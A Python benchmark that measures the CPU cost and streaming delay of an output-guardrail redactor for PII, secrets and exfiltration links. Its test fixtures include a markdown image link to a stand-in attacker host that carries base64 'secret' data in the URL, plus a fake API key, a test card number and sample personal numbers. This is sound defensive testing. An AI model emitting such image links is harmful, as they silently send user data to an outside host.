"""Output-guardrail benchmark: what the streaming hold-back costs, side by side in one run.

A 2 kB answer is streamed in 4-character chunks (about one token each) through:
* pass-through: each chunk sent as it arrives (the floor: a function call per chunk);
* `StreamRedactor` with the default output guardrails (PII, secrets, exfiltration links,
  canary) at windows of 72, 80 (the default) and 256 characters, and the same detectors
  held as a guard with another PII engine holds them (every character waits the window);
and, for the non-streaming path, `OutputGuard.scan` of the whole answer once.

Three answers: plain prose; the same prose carrying an e-mail address, a card number, an
API key and a markdown image to a foreign host (all redacted); and the same prose carrying
a telephone number and an identifier that only the words after them make personal data
("0612345678 as my mobile", "123456708 (Sanne Visser)": held until the 80 characters the
finder reads after them have arrived). For each it prints the
CPU per chunk (mean, p50, p99, in µs), the CPU per answer (median of the repetitions) and
its ratio to pass-through, and the delay: how many characters had arrived after a character
before it was sent (mean and max), the characters before the first text went out, and what
that delay is in time at an upstream that generates 50 tokens/s (~200 characters/s) — the
delay a user sees comes from the window, not from the CPU.

Last recorded (docs/guardrails.md has the table, side by side with main at 9f19b95), default
window: prose 8.2–8.4 µs per chunk mean, 4.1 ms per 2 kB answer (main 4.7–4.9; pass-through
0.32 ms, mostly reading the clock), delay 4 / 11 characters mean / max, first text with the
first chunk; with findings 6.4–6.8 ms per answer (main 13.3–13.6), delay max 68 characters;
with numbers decided by the words after them 5.5–5.8 ms, delay max 92 (the number and the 80
characters after it); held as for another PII engine (every character waits the window),
delay 82 / 83 and 6.7–7.0 ms on prose.

Run: `python -m bench holdback` (`--quick`: fewer repetitions).
"""

from __future__ import annotations

import os
import statistics
import sys
import time

from phaseone.guard.holdback import OutputGuard
from phaseone.guard.pii import PiiStage
from phaseone.plan.schema import Guardrails

CHUNK = 4
CHARS_PER_S = 200.0  # ~50 tokens/s of ~4 characters: a typical hosted model's stream
SENTENCE = (
    "The refund for your order was approved on Monday and should reach your account within"
    " three to five working days, depending on your bank. "
)
LEAKS = (
    "Contact jane.doe@mail.example.org about card 4111 1111 1111 1111. Use the key"
    " sk-proj-Q7x2Lm9Vb4Nc8Zr1Tt6Yw3Hh5Kp0Ds2Fg for the API. ![status](https://evil.example.net"
    "/p.png?d=c2VjcmV0LXVzZXItZGF0YQ) See [the guide](https://docs.example.com/refunds). "
)


#: Numbers the PII finder decides by the words after them (a phone word, the name in the
#: next field): held until the 80 characters it reads after them have arrived.
NUMBERS = (
    "Take 0612345678 as my mobile number for the delivery. Copied from the dossier:"
    " 123456708 (Sanne Visser), start 1 september. "
)


def _answer(with_leaks: bool | str, size: int = 2048) -> str:
    extra = NUMBERS if with_leaks == "numbers" else LEAKS
    text = ""
    while len(text) < size:
        text += SENTENCE
        if with_leaks and len(text) in range(400, 1400):
            text += extra
    return text[:size]


def _guard(window: int, early: bool = True) -> OutputGuard:
    """The default output guardrails; `early=False` runs the same detectors the way a
    guard with another PII engine (Presidio) must: every character waits the window."""
    g = Guardrails.model_validate(
        {
            "output": {
                "allowed_hosts": ["docs.example.com"],
                "canary": "CNRY-9f2c41d7e0",
                "stream_window_chars": window,
            }
        }
    )
    pii = PiiStage.from_plan(g.pii)
    return OutputGuard(g.output, pii.finder, builtin_pii=early)


def _chunks(text: str) -> list[str]:
    return [text[i : i + CHUNK] for i in range(0, len(text), CHUNK)]


def _pass_through(chunks: list[str], reps: int) -> tuple[list[float], list[float]]:
    """(µs per chunk, µs per answer) of forwarding each chunk (what a bare proxy does)."""

    def forward(c: str) -> str:
        return c

    per_chunk: list[float] = []
    per_answer: list[float] = []
    clock = time.thread_time_ns
    for _ in range(reps):
        start = len(per_chunk)
        for c in chunks:
            t0 = clock()
            forward(c)
            per_chunk.append((clock() - t0) / 1000)
        per_answer.append(sum(per_chunk[start:]))
    return per_chunk, per_answer


def _holdback(
    guard: OutputGuard, chunks: list[str], reps: int
) -> tuple[list[float], list[float], str]:
    """(µs per chunk, µs per answer, what was sent) through a `StreamRedactor`."""
    per_chunk: list[float] = []
    per_answer: list[float] = []
    clock = time.thread_time_ns
    out = ""
    for _ in range(reps):
        start = len(per_chunk)
        r = guard.stream()
        sent = []
        for c in chunks:
            t0 = clock()
            sent.append(r.feed(c))
            per_chunk.append((clock() - t0) / 1000)
        t0 = clock()
        sent.append(r.close())
        per_chunk[-1] += (clock() - t0) / 1000
        per_answer.append(sum(per_chunk[start:]))
        out = "".join(sent)
    return per_chunk, per_answer, out


def _delay(guard: OutputGuard, chunks: list[str]) -> tuple[float, int, int]:
    """(mean, max characters that arrived after a character before it was sent, characters
    before the first text went out). Placeholders count as sent with the text they replace:
    measured on what the stream holds, not on output length."""
    r = guard.stream()
    fed = 0
    lags: list[int] = []
    first = 0
    for c in chunks:
        before = fed - r.held
        fed += len(c)
        if r.feed(c) and not first:
            first = fed
        after = fed - r.held
        lags += [fed - (pos + 1) for pos in range(before, after)]
    r.close()
    return statistics.fmean(lags), max(lags), first


def _p(values: list[float], q: float) -> float:
    s = sorted(values)
    return s[min(len(s) - 1, int(q * len(s)))]


def main(argv: list[str] | None = None) -> None:
    args = argv if argv is not None else sys.argv[1:]
    quick = "--quick" in args or os.environ.get("PHASEONE_BENCH_QUICK") == "1"
    reps = 20 if quick else 100
    print(f"2 kB answer in {CHUNK}-character chunks, {reps} repetitions; CPU per chunk in µs.")
    print(f"Delay in time assumes an upstream generating {CHARS_PER_S:.0f} characters/s.\n")
    head = (
        f"{'answer':8} {'path':24} {'mean':>6} {'p50':>6} {'p99':>7} {'/answer':>9} {'×':>6}"
        f" {'delay mean/max':>15} {'first':>6} {'at 200 c/s':>11}"
    )
    print(head)
    print("-" * len(head))
    answers: tuple[tuple[str, bool | str], ...] = (
        ("prose", False),
        ("leaks", True),
        ("numbers", "numbers"),
    )
    for label, with_leaks in answers:
        text = _answer(with_leaks)
        chunks = _chunks(text)
        base, base_answers = _pass_through(chunks, reps)
        base_answer = statistics.median(base_answers)
        print(
            f"{label:8} {'pass-through':24} {statistics.fmean(base):6.2f} {_p(base, 0.5):6.2f}"
            f" {_p(base, 0.99):7.2f} {base_answer / 1000:7.3f}ms {1:6.0f}"
            f" {'0 / 0':>15} {CHUNK:>6} {'0 ms':>11}"
        )
        for window, early in ((72, True), (80, True), (256, True), (80, False)):
            guard = _guard(window, early)
            per_chunk, answers, out = _holdback(guard, chunks, reps)
            assert out == guard.scan(text).text, "the stream must send what the scan returns"
            answer = statistics.median(answers)
            mean_lag, max_lag, first = _delay(guard, chunks)
            name = f"hold-back, window {window}" + (" *" if window == 80 else "")
            name = name if early else f"fixed window {window} †"
            print(
                f"{label:8} {name:24} {statistics.fmean(per_chunk):6.2f}"
                f" {_p(per_chunk, 0.5):6.2f} {_p(per_chunk, 0.99):7.2f}"
                f" {answer / 1000:7.3f}ms {answer / base_answer:6.0f}"
                f" {f'{mean_lag:.0f} / {max_lag}':>15} {first:>6}"
                f" {f'{max_lag / CHARS_PER_S * 1000:.0f} ms':>11}"
            )
        guard = _guard(80)
        t = []
        for _ in range(reps):
            t0 = time.thread_time_ns()
            guard.scan(text)
            t.append((time.thread_time_ns() - t0) / 1000)
        print(
            f"{label:8} {'scan (whole answer)':24} {'':6} {'':6} {'':7}"
            f" {statistics.median(t) / 1000:7.3f}ms"
        )
    print("\n* the default window. † the same detectors held the way a guard with another PII")
    print("  engine (Presidio) holds them: every character waits the window (the engine's own")
    print("  cost not counted). 'delay' is in characters received after a character before it")
    print("  was sent; 'first' is how many characters had arrived when the first text left.")


if __name__ == "__main__":
    main()
